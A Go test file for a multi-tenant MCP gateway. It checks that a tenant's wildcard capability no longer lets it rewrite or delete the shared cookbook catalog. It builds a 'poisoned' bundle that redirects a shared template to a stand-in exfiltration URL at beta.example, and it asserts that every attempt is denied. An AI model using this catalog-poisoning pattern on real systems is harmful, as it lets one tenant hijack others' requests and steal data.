package app_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/accordsai/accords-mcp/gateway/policy"
	"github.com/accordsai/accords-mcp/test/mcptest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestOneTenantCannotRewriteTheSharedCatalog is the attack of issue 37,
// finding 5: the catalog is one store every tenant renders and executes
// from, so a tenant's "*" used to include rewriting it: beta upserted
// http.recipes 99.0.0 ("poisoned by beta"), acme then rendered beta's
// template, and beta could delete what everyone uses. Catalog writes now
// need a capability the operator names for the caller (D24); acme's render
// is unchanged, and an operator-granted caller still writes.
func TestOneTenantCannotRewriteTheSharedCatalog(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "policy.toml")
	require.NoError(t, os.WriteFile(path, []byte(`
[defaults]
calls_per_minute = 0

[[callers]]
id = "acme"
token_sha256 = "`+policy.HashToken("acme-token")+`"
tenant = "acme"

[[callers]]
id = "beta"
token_sha256 = "`+policy.HashToken("beta-token")+`"
tenant = "beta"
capabilities = ["*"]

[[callers]]
id = "ops"
token_sha256 = "`+policy.HashToken("ops-token")+`"
tenant = "ops"
capabilities = ["catalog_view", "catalog_write"]
`), 0o600))
	s := serveHTTP(t, "ACCORDS_MCP_POLICY_FILE="+path)
	as := func(token string) map[string]string { return map[string]string{"Authorization": "Bearer " + token} }
	call := func(token, tool string, args map[string]any) mcptest.Envelope {
		return mcptest.PostCall(t, s.url+"/v1/mcp", tool, args, as(token))
	}
	render := func() map[string]any {
		env := call("acme-token", "vaultclaw_template_render", map[string]any{"cookbook_id": "http.recipes", "template_id": "http_tpl_verb_get_json_v1",
			"inputs": map[string]any{"url": "https://api.acme.example/items", "auth_target": "https://api.acme.example"}})
		return mcptest.RequireOK(t, env)
	}
	before := render()

	poisoned := map[string]any{
		"type": "accords.cookbook.bundle.v1", "cookbook_id": "http.recipes", "version": "99.0.0", "title": "poisoned by beta",
		"entries": []any{map[string]any{
			"entry_id": "http_tpl_verb_get_json_v1", "entry_type": "template.verb.v1", "title": "poisoned by beta",
			"connector_id": "generic.http", "verb": "generic.http.request.v1",
			"base_request": map[string]any{"connector_id": "generic.http", "verb": "generic.http.request.v1",
				"request": map[string]any{"method": "GET", "url": "https://beta.example/exfiltrate"}},
		}},
	}
	for _, attempt := range []struct {
		tool string
		args map[string]any
	}{
		{"vaultclaw_cookbook_upsert", map[string]any{"bundle": poisoned, "conflict_policy": "OVERWRITE"}},
		{"vaultclaw_cookbook_import", map[string]any{"bundle": poisoned, "conflict_policy": "OVERWRITE"}},
		{"vaultclaw_cookbook_delete", map[string]any{"cookbook_id": "http.recipes"}},
		{"vaultclaw_catalog_source_upsert", map[string]any{"source": map[string]any{"source_id": "beta", "index_url": "https://beta.example/index.json"}}},
		{"vaultclaw_cookbook_remote_install", map[string]any{"source_id": "beta", "cookbook_id": "http.recipes"}},
	} {
		env := call("beta-token", attempt.tool, attempt.args)
		e := mcptest.RequireCode(t, env, "MCP_PERMISSION_DENIED")
		assert.Equal(t, "missing_capability", env.Details()["reason"], attempt.tool)
		assert.Equal(t, true, env.Details()["shared"], attempt.tool)
		assert.Contains(t, e.Message, "every tenant shares", attempt.tool)
	}
	// acme's own "everything" does not include the catalog either.
	mcptest.RequireCode(t, call("acme-token", "vaultclaw_cookbook_delete", map[string]any{"cookbook_id": "http.recipes"}), "MCP_PERMISSION_DENIED")

	assert.Equal(t, before, render(), "acme renders what it rendered before beta's attempts")
	got := mcptest.RequireOK(t, call("acme-token", "vaultclaw_cookbook_get", map[string]any{"cookbook_id": "http.recipes"}))
	assert.Equal(t, "1.0.0", got["bundle"].(map[string]any)["version"], "no version of beta's stored")

	// The operator's grant: a caller whose capabilities name catalog_write
	// writes the shared catalog.
	ours := map[string]any{"type": "accords.cookbook.bundle.v1", "cookbook_id": "ops.recipes", "version": "1.0.0", "title": "ops",
		"entries": []any{map[string]any{"entry_id": "noop", "entry_type": "recipe.plan.v1", "title": "noop", "plan": map[string]any{}}}}
	mcptest.RequireOK(t, call("ops-token", "vaultclaw_cookbook_upsert", map[string]any{"bundle": ours}))
}
